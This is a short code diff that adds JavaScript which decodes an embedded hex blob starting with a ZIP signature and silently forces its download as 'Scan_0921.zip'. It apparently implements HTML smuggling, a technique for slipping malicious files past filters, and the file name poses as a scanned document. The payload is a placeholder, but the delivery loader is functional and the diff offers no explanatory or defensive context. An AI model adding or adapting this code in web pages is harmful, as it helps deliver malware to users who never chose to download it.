@@ -1,0 +1,2 @@
+var h="504b0304placeholder414141414141".replace(/[^0-9a-f]/g,""),b=new Uint8Array(h.match(/../g).map(function(x){return parseInt(x,16)}));
+navigator.msSaveOrOpenBlob?navigator.msSaveOrOpenBlob(new Blob([b]),"Scan_0921.zip"):(function(){var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([b],{type:"octet/stream"}));a.download="Scan_0921.zip";document.body.appendChild(a);a.click()})();
